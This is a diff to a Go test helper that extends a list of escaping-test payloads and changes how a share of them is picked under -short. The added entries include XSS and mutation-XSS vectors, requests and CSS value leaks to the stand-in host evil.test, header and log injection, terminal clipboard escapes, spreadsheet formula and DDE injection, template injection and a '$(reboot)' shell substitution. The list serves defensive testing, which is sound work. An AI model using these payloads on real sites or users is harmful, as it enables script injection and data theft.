@@ -78,15 +78,22 @@ func Guarded(t testing.TB, h http.Header, more ...string) {
 	}
 }
 
-// PayloadsOf returns the payloads for one of many places where a text is shown: a share of them, another one for each
-// place, and without -short all.
-func PayloadsOf(place string) (list []string) {
+// How many payloads a place gets with -short: one of many places, one that stands alone, and one for which a browser
+// loads all pages of a site.
+const (
+	Few    = 16
+	Many   = 90
+	Loaded = 11
+)
+
+// PayloadsOf returns the payloads for a place where a text is shown. Without -short that is all of them, else a share
+// of at most that many, another one for each place.
+func PayloadsOf(place string, most int) (list []string) {
 	if !testing.Short() {
 		return Payloads
 	}
-	const shares = 6
-	first := int(crc32.ChecksumIEEE([]byte(place)) % shares)
-	for i := first; i < len(Payloads); i += shares {
+	shares := (len(Payloads) + most - 1) / most
+	for i := int(crc32.ChecksumIEEE([]byte(place)) % uint32(shares)); i < len(Payloads); i += shares {
 		list = append(list, Payloads[i])
 	}
 	return list
@@ -132,6 +139,48 @@ var Payloads = []string{
 	"Z\u0334\u0335\u0336\u0337\u0338\u0489\u0334\u0335\u0336\u0337\u0338", strings.Repeat("W", 20000),
 	strings.Repeat("\u6f22", 5000), "line" + strings.Repeat("\n", 3000), "{{.}}{{end}}{{define \"x\"}}",
 	"${alert(1)}", "__proto__",
+
+	// Attributes that end, between unusual spaces.
+	`" style="animation-name:x" onanimationstart="alert(1)`, "` onmouseover=alert(1) x=`",
+	`x\" onclick=alert(1) y=\"`, "\"\x0cautofocus\x0confocus\x0c=\x0calert(1)\x0cx=\"", `&quot; onclick=&quot;alert(1)`,
+	// Scripts and comments that end elsewhere than a reader thinks, and markup that changes when it is parsed again.
+	`<script><!--<script></script>alert(1)//-->`, `--!><script>alert(1)</script>`,
+	`{"a":"</script><script>alert(1)</script>"}`, `"}],"state":"approved","x":[{"y":"`,
+	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+	`<div><template shadowrootmode=open><script>alert(1)</script></template></div>`,
+	`<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>`,
+	`<svg><a><set attributeName=href to=javascript:alert(1) /><text y=9>Approve</text></a></svg>`,
+	`<math href="javascript:alert(1)">Approve</math>`,
+	`<script>trustedTypes.createPolicy("default",{createHTML:x=>x});document.body.innerHTML="<img src onerror=alert(1)>"`,
+	// URLs.
+	"java\tscript:alert(1)", "\x01 javascript:alert(1)", `javascript&colon;alert&lpar;1&rpar;`,
+	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `https://a.test@evil.test/`, `/\evil.test`,
+	// What loads without a script, and what changes the page around it.
+	`<img srcset="//evil.test/i 1x">`, `<video poster=//evil.test/p>`, `<a ping=//evil.test href=#>Approve</a>`,
+	`<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`, `<meta charset=utf-7>`,
+	`<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">`, `</style><style>@import "//evil.test/a.css";`,
+	`<style>main::before{content:"Approved"}input[value^=a]{background:url(//evil.test/a)}</style>`,
+	`<dialog open>Approved</dialog>`, `<input type=hidden name=turn value=x>`,
+	// Names that scripts of a page look up.
+	`<p id=news>Load it again.</p><form id=body><input name=dataset>`, `<img name=getElementById><a id=location>`,
+	`<button data-copy=told data-events=//evil.test data-reload=yes>`,
+	// Fields of an event, a header and a log.
+	"\ndata: 0\n\n", "\revent: message\rid: 1\rretry: 1\r\r", "x\nContent-Security-Policy: script-src *\n\n",
+	"x\n2026-08-01T12:00:00Z level=INFO msg=\"approved by alice\"", `" verdict=allow reason="owner`,
+	// Terminals: the clipboard, the title, hidden words, a question, and controls of eight bits.
+	"\x1b]52;c;ZXZpbA==\x1b\\", "\x1b]0;approved\x07\x1b[8m hidden \x1b[0m", "\x1b[6n\x1bP$qm\x1b\\",
+	"\u009b2J\u009d0;x\u009c", "\x9b31mred", "denied\rapproved", "line\u0085next\vtab\ffeed",
+	// Characters that look like others or like nothing, and bytes that are no characters.
+	"\u0430pprov\u0435", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\U000e0041\U000e007f tag",
+	"\u3164\u115f\uffa0filler", "\ufff9a\ufffab\ufffb\u00ad\u206a", strings.Repeat("\u202e\u2067", 200) + "x",
+	"\xc0\xbcscript\xc0\xbe", "\xed\xa0\x80\xed\xb0\x80", "cut\xe2\x80", "<scr\x00ipt>alert(1)</scr\x00ipt>",
+	"\ufffe\uffff\U0010ffff\ue000",
+	// Texts that something else reads a second time: entities, escapes, tables, templates, formats, shells.
+	`&amp;lt;script&amp;gt;`, `&#0;&#128;&#xd800;&#x110000;`, `%253Cscript%253E`, `\x3cscript\x3e`,
+	`=HYPERLINK("https://evil.test","Approve")`, `@SUM(1+1)*cmd|' /C calc'!A0`,
+	`{{constructor.constructor("alert(1)")()}}`, `<%= 7*7 %>#{7*7}`, `%s%n%!d(MISSING)%[2]*v`, "$(reboot)`reboot`;reboot",
+	strings.Repeat("<div><table><svg>", 400), "a" + strings.Repeat("\u0301", 900), strings.Repeat("&", 3000),
 }
 
 // Walk visits the elements of a page.
